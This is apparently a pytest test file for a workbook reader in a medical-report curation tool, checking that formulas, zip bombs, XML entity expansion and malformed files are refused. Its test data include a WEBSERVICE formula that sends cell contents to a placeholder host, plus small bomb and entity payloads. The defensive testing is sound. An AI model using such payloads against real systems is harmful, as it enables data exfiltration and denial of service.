"""Workbooks cell by cell: formulas, errors, numbers, bombs, and files that are no workbook."""

import datetime
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from bimcvr.curation.sources.csv_table import CsvTable
from bimcvr.curation.sources.table_reader import SourceTable, read_table
from bimcvr.curation.study import SourceStudy
from bimcvr.errors import UserError
from bimcvr.extras import MissingExtra

openpyxl = pytest.importorskip("openpyxl", reason="the extra xlsx is not installed")
SHEET = "xl/worksheets/sheet1.xml"


def write(path: Path, *rows: tuple[object, ...]) -> Path:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def rewrite(path: Path, change: Callable[[str, bytes], bytes], *extra: tuple[str, bytes]) -> Path:
    """Change the members of a workbook, and add some."""
    with zipfile.ZipFile(path) as packed:
        members = [(name, change(name, packed.read(name))) for name in packed.namelist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in (*members, *extra):
            packed.writestr(name, content)
    return path


def in_sheet(old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    def change(name: str, content: bytes) -> bytes:
        return content.replace(old, new) if name == SHEET else content

    return change


def reasons(table: SourceTable) -> dict[str, str]:
    return {item.name: item.reason for item in table.set_aside}


def problem(path: Path) -> str:
    """Why a file is set aside as a whole."""
    (item,) = read_table(path).set_aside
    assert item.reason == "unreadable_table"
    return item.message


def test_values_are_written_as_excel_shows_them(tmp_path: Path) -> None:
    date = datetime.datetime(2020, 5, 12)
    path = write(
        tmp_path / "x.xlsx",
        ("id", "text", "", "n", "date"),
        (7, "a\nb", None, 5.0, date),
        (8.5, "carriage_x000D_\nreturn", None, True, None),
        (),
        ("nan", "ñandú", None, 1234567890123, "#N/A"),
    )
    table = read_table(path)
    assert table.columns == ("id", "text", "n", "date")
    assert table.rows == (
        (2, {"id": "7", "text": "a\nb", "n": "5", "date": "2020-05-12T00:00:00"}),
        (3, {"id": "8.5", "text": "carriage\nreturn", "n": "True", "date": ""}),
        (5, {"id": "nan", "text": "ñandú", "n": "1234567890123", "date": ""}),
    )
    assert table.set_aside == ()


def test_formulas_and_errors_cost_their_row(tmp_path: Path) -> None:
    path = write(
        tmp_path / "x.xlsx",
        ("id", "text"),
        (1, '=WEBSERVICE("http://x/"&A1)'),
        (2, "=Sheet2!A1"),
        (3, "fine"),
        (4, "#REF!"),
        (5, "- no effusion"),
        (6, "fine", "a cell too many"),
    )
    table = read_table(path)
    assert [cells["id"] for _, cells in table.rows] == ["3", "5"]
    assert reasons(table) == {
        "x.xlsx: line 2": "formula",
        "x.xlsx: line 3": "formula",
        "x.xlsx: line 5": "unreadable_row",
        "x.xlsx: line 7": "unreadable_row",
    }
    assert "column B" in table.set_aside[0].message
    assert "http" not in "".join(item.message for item in table.set_aside)


def test_the_result_that_excel_stored_for_a_formula_is_not_taken(tmp_path: Path) -> None:
    path = write(tmp_path / "x.xlsx", ("id", "text"), (1, "=A1"))
    rewrite(path, in_sheet(b"<f>A1</f><v></v>", b"<f>A1</f><v>7</v>"))
    rewrite(path, in_sheet(b"<f>A1</f><v />", b"<f>A1</f><v>7</v>"))
    assert b"<v>7</v>" in zipfile.ZipFile(path).read(SHEET)
    assert reasons(read_table(path)) == {"x.xlsx: line 2": "formula"}


def test_the_sheet_with_the_columns_is_read(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(("about", "this file"))
    book.create_sheet("reports").append(("id", "text"))
    book["reports"].append((1, "a"))
    book.create_sheet("empty")
    book.save(tmp_path / "x.xlsx")
    assert len(read_table(tmp_path / "x.xlsx", ("id", "text")).rows) == 1
    with pytest.raises(UserError, match="has no column report; it has about, this file"):
        read_table(tmp_path / "x.xlsx", ("report",))


def test_a_false_size_of_the_sheet_costs_no_row(tmp_path: Path) -> None:
    path = write(tmp_path / "x.xlsx", ("id", "text"), (1, "a"), (2, "b"))
    rewrite(path, in_sheet(b'ref="A1:B3"', b'ref="A1:A2"'))
    assert len(read_table(path).rows) == 2


def test_claims_of_rows_and_columns_are_bounded(tmp_path: Path) -> None:
    """A file of a few bytes can place a cell in row 4,000,000,000 or column XFD."""
    path = write(tmp_path / "x.xlsx", ("id", "text"), (1, "a"))
    far = b'<row r="4000000000"><c r="A4000000000"><v>1</v></c></row></sheetData>'
    wide = b'<row r="3"><c r="A3"><v>2</v></c><c r="XFD3"><v>9</v></c></row>'
    rewrite(path, in_sheet(b"</sheetData>", wide + far))
    assert [cells["id"] for _, cells in read_table(path).rows] == ["1", "2"]


def test_bombs_are_refused_before_they_are_unpacked(tmp_path: Path) -> None:
    path = write(tmp_path / "x.xlsx", ("id", "text"), (1, "a"))
    rewrite(path, lambda _, content: content, ("xl/big.xml", b" " * 40_000_000))
    assert "would unpack to 40 MB" in problem(path)


def test_entities_are_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "x.xlsx", ("id", "text"), (1, "a"))
    entity = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet '
    rewrite(path, in_sheet(b"<worksheet ", entity))
    assert "EntitiesForbidden" in problem(path) or "ValueError" in problem(path)


@pytest.mark.parametrize("length", [0, 3, 500, -200, -1])
def test_truncated_files(tmp_path: Path, length: int) -> None:
    path = write(tmp_path / "x.xlsx", ("id", "text"), (1, "a"))
    path.write_bytes(path.read_bytes()[:length])
    assert re.search(r"empty|not a readable zip", problem(path))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"<html>404</html>", "a web page"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "an old .xls workbook, or one with a password"),
        (b"study id,Findings\n1,secret\n", "not a readable zip"),
    ],
)
def test_files_of_another_kind(tmp_path: Path, content: bytes, words: str) -> None:
    (tmp_path / "x.xlsx").write_bytes(content)
    assert words in problem(tmp_path / "x.xlsx")
    assert "secret" not in problem(tmp_path / "x.xlsx")


def test_a_zip_that_is_no_workbook_and_damaged_members(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "x.xlsx", "w") as packed:
        packed.writestr("a.txt", "a")
    assert "no readable .xlsx workbook" in problem(tmp_path / "x.xlsx")
    path = write(tmp_path / "y.xlsx", ("id", "text"), (1, "a"))
    rewrite(path, in_sheet(b"</sheetData>", b"</sheet"))
    assert "no readable .xlsx workbook (ParseError)" in problem(path)
    write(path)
    assert "is empty" in problem(path)


def test_without_the_extra_the_message_names_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = write(tmp_path / "x.xlsx", ("id", "text"), (1, "a"))
    monkeypatch.setitem(sys.modules, "defusedxml", None)
    with pytest.raises(MissingExtra, match=re.escape("pip install 'bimcvr[xlsx]'")):
        read_table(path)


def test_a_table_of_ones_own_can_be_a_workbook(tmp_path: Path, volume: Callable[[Path], Path]) -> None:
    volume(tmp_path / "a.nii.gz")
    path = write(tmp_path / "x.xlsx", ("study_id", "volume", "report", "site"), (7, "a.nii.gz", "No nodule.", 3.0))
    (study,) = CsvTable(str(path)).studies()
    assert isinstance(study, SourceStudy)
    assert (study.study_id, study.report, study.columns) == ("7", "No nodule.", {"site": "3"})
